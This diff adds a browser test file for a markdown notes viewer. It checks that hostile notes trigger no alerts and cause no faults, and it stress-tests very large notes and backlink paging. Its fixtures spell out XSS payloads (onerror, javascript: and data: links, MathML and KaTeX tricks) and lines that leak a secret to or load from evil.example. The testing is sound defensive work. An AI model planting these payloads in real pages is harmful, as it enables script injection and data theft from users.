@@ -1,0 +1,81 @@
+/** Notes that were written to do harm, in a real browser: nothing runs, nothing is loaded, all is shown. */
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
+import { BROWSER, NO_BROWSER } from './browser.ts'
+import { closeBrowser, layoutFaults, openPage, startBrowser } from './page.ts'
+import { serve, untilIndexed, type Served } from './served.ts'
+
+const FILES: Readonly<Record<string, string>> = {
+  'script.md':
+    '# <img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n[a](javascript:alert(3)) <svg onload=alert(4)>\n\n' +
+    '![leak](https://evil.example/?secret) <img src="https://evil.example/2.png"> <style>body{display:none}</style>\n\n' +
+    '<math><mtext><img src onerror=alert(5)></mtext></math> $\\href{javascript:alert(6)}{x}$ <iframe src="https://evil.example"></iframe>\n\n' +
+    '<form action="https://evil.example"><button>go</button></form> <a href="data:text/html,<script>alert(7)</script>">d</a>\n',
+  'bidi\u202e.md': '# Turned \u202e around\n\nText \u0007 with \u2066 marks.\n',
+  'quotes".md': '# "Quotes" & <b>tags</b>\n\nSee [[script]].\n',
+  'line.md': `# Line\n\n${'word [x](y) '.repeat(90_000)}\n`,
+  'table.md': `# Table\n\n| a | b |\n|---|---|\n${'| cell | other |\n'.repeat(36_000)}`,
+  'headings.md': Array.from({ length: 10_000 }, (_, i) => `## Heading ${i}\n`).join('\n'),
+  ...Object.fromEntries(
+    Array.from({ length: 400 }, (_, i) => [
+      `many/from-${i}.md`,
+      `# From ${i}\n\nSee [[headings]].\n`,
+    ]),
+  ),
+}
+
+const finished: (() => void | Promise<void>)[] = []
+let served: Served
+
+beforeAll(async () => {
+  if (!BROWSER) return
+  served = await serve((clean) => finished.unshift(clean), { files: FILES, bare: true })
+  await untilIndexed(served, Object.keys(FILES).length)
+  await startBrowser()
+}, 120_000)
+
+afterAll(async () => {
+  await closeBrowser()
+  for (const clean of finished) await clean()
+})
+
+describe.skipIf(!BROWSER)(BROWSER ? 'a hostile note' : NO_BROWSER, { timeout: 90_000 }, () => {
+  it.each(Object.keys(FILES).filter((name) => !name.startsWith('many/')))(
+    'does no harm: %j',
+    async (name) => {
+      const id = `handbook/${name}`
+      const { page, faults, close } = await openPage(
+        `${served.url}/n/${id.split('/').map(encodeURIComponent).join('/')}`,
+      )
+      onTestFinished(close)
+      let alerts = 0
+      page.on('dialog', (dialog) => {
+        alerts++
+        void dialog.dismiss()
+      })
+      await page.locator('.prose').first().waitFor()
+      await page.keyboard.press('s')
+      await page.locator('.source li').first().waitFor()
+      expect(alerts).toBe(0)
+      expect(faults).toEqual([])
+      expect(await layoutFaults(page)).toEqual([])
+    },
+  )
+
+  it('lists twenty backlinks of many, and then more', async () => {
+    const { page, close } = await openPage(`${served.url}/n/handbook/headings.md`)
+    onTestFinished(close)
+    await page.locator('.backlinks h3', { hasText: '400 backlinks' }).waitFor()
+    expect(await page.locator('.backlinks li').count()).toBe(20)
+    await page.locator('.backlinks').getByRole('button', { name: '380 more' }).press('Enter')
+    await expect.poll(() => page.locator('.backlinks li').count(), { timeout: 20_000 }).toBe(120)
+  })
+
+  it('reads a long note part by part', async () => {
+    const { page, close } = await openPage(`${served.url}/n/handbook/table.md`)
+    onTestFinished(close)
+    const on = page.getByRole('button', { name: /^Read on/ })
+    await on.press('Enter')
+    await page.locator('.prose').nth(1).waitFor()
+    expect(await page.locator('.prose').nth(1).locator('th').first().textContent()).toBe('a')
+  })
+})
